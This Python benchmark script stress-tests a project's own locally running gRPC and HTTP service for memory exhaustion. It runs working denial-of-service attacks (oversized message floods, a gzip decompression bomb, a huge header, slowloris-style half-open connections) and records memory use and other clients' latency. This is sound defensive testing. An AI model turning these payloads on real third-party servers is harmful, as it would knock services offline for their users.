"""What memory a stranger can make the system take: resident size of the process attacked before, at its peak and after.

    python bench/attacks/memory.py edge --address 127.0.0.1:50051
    python bench/attacks/memory.py bomb --address 127.0.0.1:50051
    python bench/attacks/memory.py header --address 127.0.0.1:8080
    python bench/attacks/memory.py halfopen --address 127.0.0.1:8080
    python bench/attacks/memory.py replica

The system runs on this machine, started by `mammoganesis serve`. No attack carries a secret.
"""

from __future__ import annotations

import asyncio
import contextlib
import re
import socket
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from threading import Event, Thread
from typing import Any

import click
import grpc
import psutil

from mammoganesis.v1 import model_pb2, model_pb2_grpc

MIB = 2**20
SAMPLE = "/mammoganesis.v1.SamplingService/Sample"


def listening(port: int) -> psutil.Process:
    """The process that listens on a port."""
    for connection in psutil.net_connections("tcp"):
        if connection.status == psutil.CONN_LISTEN and connection.laddr[1:] == (port,) and connection.pid:
            return psutil.Process(connection.pid)
    raise click.ClickException(f"nothing listens on port {port}")


def replica() -> tuple[psutil.Process, int]:
    """A replica of the sampling application and its gRPC ingress port: the highest in Serve's block that it has."""
    for process in psutil.process_iter(["cmdline"]):
        if re.search(r"ServeReplica:sampling", " ".join(process.info["cmdline"] or ())):
            ports = [item.laddr.port for item in process.net_connections("tcp") if item.status == psutil.CONN_LISTEN]
            return process, max(port for port in ports if 15_000 <= port <= 30_000)
    raise click.ClickException("no replica of the sampling application runs here")


def watched(process: psutil.Process, attack: Callable[[], object]) -> object:
    """Runs an attack; prints the resident size of its target in MiB before, at the peak, and five seconds after."""
    sizes, over = [process.memory_info().rss], Event()

    def watch() -> None:
        with contextlib.suppress(psutil.NoSuchProcess):
            while not over.wait(0.02):
                sizes.append(process.memory_info().rss)

    watcher = Thread(target=watch)
    watcher.start()
    try:
        answer = attack()
    finally:
        time.sleep(5)
        over.set()
        watcher.join()
    before, peak, after = (round(size / MIB) for size in (sizes[0], max(sizes), sizes[-1]))
    click.echo(f"resident MiB: {before} before, {peak} at the peak, {after} five seconds after")
    return answer


def code_of(call: Callable[[], object]) -> str:
    """The status and the words of a call."""
    try:
        call()
        return "OK"
    except grpc.RpcError as error:
        return f"{error.code().name}: {error.details()}"  # type: ignore[attr-defined]


def channel(address: str) -> grpc.Channel:
    """A connection of its own that sends anything."""
    options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
    return grpc.insecure_channel(address, options)


def flood(address: str, message: bytes, calls: int, **options: Any) -> list[str]:
    """The same message in `calls` parallel calls, each over a connection of its own; their distinct outcomes."""

    def one(_: int) -> str:
        with channel(address) as opened:
            return code_of(lambda: opened.unary_unary(SAMPLE)(message, timeout=60, **options))

    with ThreadPoolExecutor(calls) as pool:
        return sorted(set(pool.map(one, range(calls))))


def others(address: str, over: Event) -> list[float]:
    """Seconds of the slowest of somebody else's GetModel calls, one after the other, until `over`."""
    slowest = [0.0]
    with grpc.insecure_channel(address) as opened:
        stub = model_pb2_grpc.ModelServiceStub(opened)
        while not over.is_set():
            start = time.monotonic()
            code_of(lambda: stub.GetModel(model_pb2.GetModelRequest(), timeout=60))
            slowest.append(time.monotonic() - start)
            time.sleep(0.05)
    return slowest


def padding(mebibytes: int) -> bytes:
    """A message of any type: one field of zeros that no type knows."""
    size, length = mebibytes * MIB, b""
    while size > 127:
        length, size = length + bytes([size & 127 | 128]), size >> 7
    return b"\x7a" + length + bytes([size]) + bytes(mebibytes * MIB)


def port_of(address: str) -> int:
    return int(address.rpartition(":")[2])


@click.group()
def main() -> None:
    """Attack the memory of a running system."""


@main.command()
@click.option("--address", default="127.0.0.1:50051", show_default=True)
@click.option("--calls", default=24, show_default=True)
@click.option("--mebibytes", default=60, show_default=True, help="Of one request.")
def edge(address: str, calls: int, mebibytes: int) -> None:
    """Large requests to the edge, and how long another client waits meanwhile."""
    message = padding(mebibytes)
    over = Event()
    with ThreadPoolExecutor(1) as pool:
        waiting = pool.submit(others, address, over)
        for outcome in watched(listening(port_of(address)), lambda: flood(address, message, calls)):  # type: ignore
            click.echo(outcome[:200])
        over.set()
        click.echo(f"slowest GetModel of another client: {max(waiting.result()):.2f} s")


@main.command()
@click.option("--address", default="127.0.0.1:50051", show_default=True)
@click.option("--mebibytes", default=512, show_default=True, help="Of one request, once unpacked.")
def bomb(address: str, mebibytes: int) -> None:
    """One request of zeros, packed by gzip to a thousandth."""
    message = padding(mebibytes)
    packed = {"compression": grpc.Compression.Gzip}
    for outcome in watched(listening(port_of(address)), lambda: flood(address, message, 1, **packed)):  # type: ignore
        click.echo(outcome[:200])


@main.command("replica")
@click.option("--mebibytes", default=500, show_default=True, help="Of one request.")
@click.option("--calls", default=1, show_default=True)
def replica_port(mebibytes: int, calls: int) -> None:
    """A large request without the secret to the gRPC port of a replica."""
    process, port = replica()
    message = padding(mebibytes)
    metadata = (("application", "sampling"),)
    for outcome in watched(process, lambda: flood(f"127.0.0.1:{port}", message, calls, metadata=metadata)):  # type: ignore
        click.echo(outcome[:200])


@main.command()
@click.option("--address", default="127.0.0.1:8080", show_default=True)
@click.option("--mebibytes", default=300, show_default=True)
def header(address: str, mebibytes: int) -> None:
    """One header to the studio."""

    def attack() -> str:
        with socket.create_connection(("127.0.0.1", port_of(address)), timeout=60) as opened:
            opened.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Long: ")
            sent = 0
            try:
                for _ in range(mebibytes):
                    opened.sendall(b"a" * MIB)
                    sent += 1
                opened.sendall(b"\r\n\r\n")
                return f"all {sent} MiB were taken: {opened.recv(200)[:60]!r}"
            except OSError as error:
                return f"closed after {sent} MiB: {error}"

    click.echo(watched(listening(port_of(address)), attack))


@main.command()
@click.option("--address", default="127.0.0.1:8080", show_default=True)
@click.option("--connections", default=200, show_default=True)
@click.option("--seconds", default=48, show_default=True)
def halfopen(address: str, connections: int, seconds: int) -> None:
    """Requests to the studio that never end: half a line, half the headers, half a body; and others beside them."""
    beginnings = (
        b"",
        b"GET / HTT",
        b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: ",
        b"POST /mammoganesis.v1.SamplingService/Sample HTTP/1.1\r\nHost: localhost\r\n"
        b"Content-Type: application/json\r\n"
        b"Content-Length: 99\r\n\r\n{",
    )
    asyncio.run(_halfopen(port_of(address), beginnings, connections, seconds))


async def _halfopen(port: int, beginnings: tuple[bytes, ...], connections: int, seconds: int) -> None:
    opened, start, closed = [], time.monotonic(), []
    for number in range(connections):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(beginnings[number % len(beginnings)])
        opened.append((reader, writer))

    async def end(reader: asyncio.StreamReader) -> None:
        with contextlib.suppress(OSError):
            await reader.read()
        closed.append(time.monotonic() - start)

    waits = [asyncio.create_task(end(reader)) for reader, _ in opened]
    slowest = 0.0
    while time.monotonic() - start < seconds and len(closed) < connections:
        before = time.monotonic()
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
        if not (await reader.read()).startswith(b"HTTP/1.1 200"):
            click.echo("another client was not answered")
        writer.close()
        slowest = max(slowest, time.monotonic() - before)
        await asyncio.sleep(0.2)
    last = f"the last after {max(closed):.1f} s" if closed else "none"
    click.echo(
        f"closed within {seconds} s: {len(closed)} of {connections}, {last}; slowest other request {slowest:.2f} s"
    )
    for task in waits:
        task.cancel()


if __name__ == "__main__":
    main()
